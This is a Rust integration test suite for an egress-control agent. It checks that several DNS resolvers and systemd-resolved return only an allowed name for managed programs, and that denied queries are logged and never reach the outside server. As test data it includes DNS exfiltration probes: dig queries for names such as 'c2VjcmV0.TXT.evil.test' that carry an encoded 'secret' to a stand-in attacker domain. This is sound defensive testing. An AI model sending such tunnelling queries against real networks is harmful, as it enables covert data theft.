//! Each kind of resolver as a managed program, against a name server outside that logs what reaches it.

use std::collections::BTreeSet;

use anyhow::Result;
use harness::{Scripted, require};

use super::*;

const SERVERS: [&str; 2] = ["203.0.113.11", "2001:db8:113::b"];
const ADDRESSES: [&str; 2] = ["2001:db8:113::a", "203.0.113.10"];

/// Types of questions that could carry something out, or in.
const KINDS: [&str; 8] = ["A", "AAAA", "TXT", "MX", "NS", "NULL", "ANY", "HTTPS"];

/// A resolver: its name, what it runs for `NAME`, and the protocol words of resolv.conf(5) that it follows or is given
/// as `PROTOCOL`.
struct Resolver {
    name: &'static str,
    script: &'static str,
    protocols: &'static [&'static str],
}

const GLIBC: Resolver = Resolver {
    name: "glibc",
    script: "getent ahosts NAME | awk '{print $1}' | grep .",
    protocols: &["udp", "tcp"],
};
/// The version that Debian 12 has knows no TCP.
const MUSL: Resolver = Resolver {
    name: "musl",
    script: "/opt/clients/resolve-musl NAME",
    protocols: &["udp"],
};
const GO: Resolver = Resolver {
    name: "go",
    script: "/opt/clients/resolve-go NAME",
    protocols: &["udp", "tcp"],
};
const C_ARES: Resolver = Resolver {
    name: "cares",
    script: "python3 /opt/clients/resolve.py PROTOCOL NAME",
    protocols: &["udp", "tcp"],
};
const NODE: Resolver = Resolver {
    name: "node",
    script: "node /opt/clients/resolve.mjs NAME",
    protocols: &["udp"],
};

/// A host that finds names by asking the server outside alone.
struct Names {
    host: Host,
    server: Scripted,
}

impl Names {
    fn new() -> Result<Self> {
        let mut server = None;
        let host = Host::new(&[], "", |world| {
            server = Some(world.scripted_by(include_str!("dns.py"), "ns.example.test", None)?);
            fs::write(world.dir().join("hosts"), "127.0.0.1 localhost\n")?;
            let text: String = SERVERS
                .iter()
                .map(|server| format!("nameserver {server}\n"))
                .collect();
            fs::write(world.dir().join("resolv.conf"), text)?;
            Ok(())
        })?;
        let server = server.context("it was started")?;
        Ok(Self { host, server })
    }

    /// What the programs of the host find in resolv.conf(5).
    fn ask(&self, server: &str, protocol: &str) -> Result<()> {
        let options = if protocol == "tcp" { "options use-vc\n" } else { "" };
        let text = format!("nameserver {server}\noptions timeout:5 attempts:1\n{options}");
        Ok(fs::write(self.host.0.world().dir().join("resolv.conf"), text)?)
    }

    /// An allowed name has its addresses; another is not there, which is on record.
    fn check(&self, resolver: &Resolver) -> Result<()> {
        for way in AS_ROOT {
            for (version, server) in SERVERS.iter().enumerate() {
                for protocol in resolver.protocols {
                    self.ask(server, protocol)?;
                    let run = |name: &str| {
                        let script = resolver
                            .script
                            .replace("PROTOCOL", protocol)
                            .replace("NAME", name);
                        self.host.run(*way, &script)
                    };
                    let case = format!("{} {way:?} {server} {protocol}", resolver.name);
                    let found = run(API)?;
                    let addresses: BTreeSet<_> = found.stdout.lines().collect();
                    assert_eq!(addresses, BTreeSet::from(ADDRESSES), "{case}: {found:?}");

                    let label = format!("{}-{version}-{protocol}-{way:?}", resolver.name).to_lowercase();
                    let name = format!("{label}.evil.test");
                    let absent = run(&name)?;
                    assert!(
                        !absent.status.success() && absent.stdout.is_empty(),
                        "{case}: {absent:?}"
                    );
                    self.recorded(&name, protocol).context(case)?;
                }
            }
        }
        Ok(())
    }

    fn recorded(&self, name: &str, protocol: &str) -> Result<()> {
        let expected = [
            ("kind", "dns".into()),
            ("workload", "billing".into()),
            ("authority", format!("{name}.").into()),
            ("protocol", protocol.into()),
            ("outcome", "denied".into()),
            ("reason", "host_not_allowed".into()),
        ];
        // One for each type that was asked for.
        let found = wait::until("a record of the question", wait::PATIENCE, || {
            let records = self.host.0.records().ok()?;
            (!harness::audit::matching(&records, &expected).is_empty()).then_some(())
        });
        found.with_context(|| format!("{:#?}", self.host.0.records()))
    }

    /// Nothing but the allowed name was asked for outside.
    fn nothing_else_got_out(&self) -> Result<()> {
        let asked: BTreeSet<_> = self.server.arrived()?.into_iter().map(|one| one.path).collect();
        assert!(asked.iter().all(|name| name == API), "{asked:?}");
        // The service manager's own sockets, the agent's among them, are in each service for a moment.
        let records = self.host.0.records()?;
        let cut = records.iter().find(|one| one.text("reason") == "handed_socket");
        assert!(cut.is_none(), "{cut:?}");
        Ok(())
    }
}

#[test]
fn the_c_libraries_find_allowed_names_and_no_others() -> Result<()> {
    require!(Root, CgroupV2, Btf, Runtimes);
    let names = Names::new()?;
    let source = names
        .host
        .client("resolve.c", include_str!("clients/resolve.c"))?;
    let build = format!("musl-gcc -static -o {CLIENTS}/resolve-musl {source}");
    names.host.0.sh(&build)?.ok()?;
    names.check(&GLIBC)?;
    names.check(&MUSL)?;
    names.nothing_else_got_out()
}

#[test]
fn resolvers_of_their_own_find_allowed_names_and_no_others() -> Result<()> {
    require!(Root, CgroupV2, Btf, Runtimes);
    let names = Names::new()?;
    let host = &names.host;
    host.client("resolve.go", include_str!("clients/resolve.go"))?;
    host.client("resolve.py", include_str!("clients/resolve.py"))?;
    host.client("resolve.mjs", include_str!("clients/resolve.mjs"))?;
    host.0
        .sh("cd /opt/clients && go build -o resolve-go resolve.go")?
        .ok()?;
    for resolver in [&GO, &C_ARES, &NODE] {
        names.check(resolver)?;
    }
    names.nothing_else_got_out()
}

#[test]
fn no_record_tells_of_encrypted_names_and_labels_carry_nothing_out() -> Result<()> {
    require!(Root, CgroupV2, Btf, Runtimes);
    let names = Names::new()?;
    // The server has both, and whoever is not managed is told of them.
    let open = names
        .host
        .0
        .sh(&format!("dig @{} {API} HTTPS {API} SVCB", SERVERS[0]))?;
    let told = open.ok()?;
    assert_eq!(told.matches("ANSWER: 1,").count(), 2, "{told}");
    // For a managed one the name has none; a name below it, and any other of whatever type, is not there.
    let labels = KINDS.map(|kind| format!("c2VjcmV0.{kind}.evil.test {kind}"));
    let questions = format!("{API} HTTPS {API} SVCB c2VjcmV0.{API} TXT {}", labels.join(" "));
    for way in AS_ROOT {
        for server in SERVERS {
            for protocol in ["+notcp", "+tcp"] {
                let script = format!("dig @{server} +time=5 +tries=1 {protocol} {questions}");
                let told = names.host.run(*way, &script)?.ok()?;
                let count = |words: &str| told.matches(words).count();
                assert_eq!(count("status: NOERROR"), 2, "{told}");
                assert_eq!(count("status: NXDOMAIN"), KINDS.len() + 1, "{told}");
                assert_eq!(count("ANSWER: 0,"), KINDS.len() + 3, "{told}");
            }
        }
    }
    names.nothing_else_got_out()
}

/// Ways to have systemd-resolved ask for a name: with its command, by the C library, over D-Bus and at its varlink socket,
/// whose answer may be an error.
const RESOLVED: [&str; 4] = [
    "resolvectl query NAME",
    "getent -s resolve ahosts NAME",
    "busctl call org.freedesktop.resolve1 /org/freedesktop/resolve1 org.freedesktop.resolve1.Manager ResolveHostname isit 0 NAME 0 0",
    "python3 /opt/clients/varlink.py NAME",
];
const VARLINK: &str = r#"
import json, socket, sys
asked = {"method": "io.systemd.Resolve.ResolveHostname", "parameters": {"name": sys.argv[1]}}
resolved = socket.socket(socket.AF_UNIX)
resolved.connect("/run/systemd/resolve/io.systemd.Resolve")
resolved.sendall(json.dumps(asked).encode() + b"\0")
told = resolved.recv(65536)
sys.exit("error" in json.loads(told[:-1]))
"#;

impl Names {
    /// With a systemd-resolved that whoever is not managed may ask.
    fn with_resolved() -> Result<Self> {
        let names = Self::new()?;
        let bed = &names.host.0;
        if !bed.systemctl(&["start", "systemd-resolved"])?.status.success() {
            bail!(
                "systemd-resolved does not start: {}",
                bed.journal("systemd-resolved")?
            );
        }
        names.host.client("varlink.py", VARLINK)?;
        for script in RESOLVED.map(|script| script.replace("NAME", API)) {
            bed.sh(&script)?.ok()?;
            bed.run([
                "setpriv",
                "--reuid",
                USER,
                "--regid",
                USER,
                "--init-groups",
                "sh",
                "-c",
                &script,
            ])?
            .ok()?;
        }
        Ok(names)
    }
}

#[test]
fn systemd_resolved_does_not_ask_for_a_managed_program() -> Result<()> {
    require!(Root, CgroupV2, Btf, Runtimes);
    let names = Names::with_resolved()?;
    for way in WAYS {
        for script in RESOLVED {
            let closed = names.host.run(*way, &script.replace("NAME", API))?;
            assert!(!closed.status.success(), "{way:?} {script}: {closed:?}");
            let closed = names
                .host
                .run(*way, &script.replace("NAME", "secret.evil.test"))?;
            assert!(!closed.status.success(), "{way:?} {script}: {closed:?}");
        }
        // Its stub is the agent's for a managed program.
        let name = format!("stub-{way:?}.evil.test").to_lowercase();
        let told = names
            .host
            .run(*way, &format!("dig @127.0.0.53 +time=5 +tries=1 {name}"))?
            .ok()?;
        assert!(told.contains("status: NXDOMAIN"), "{way:?}: {told}");
        names.recorded(&name, "udp")?;
        let found = names.host.run(*way, &format!("getent ahosts {API}"))?.ok()?;
        assert!(
            ADDRESSES.iter().all(|address| found.contains(address)),
            "{way:?}: {found}"
        );
    }
    names.nothing_else_got_out()
}
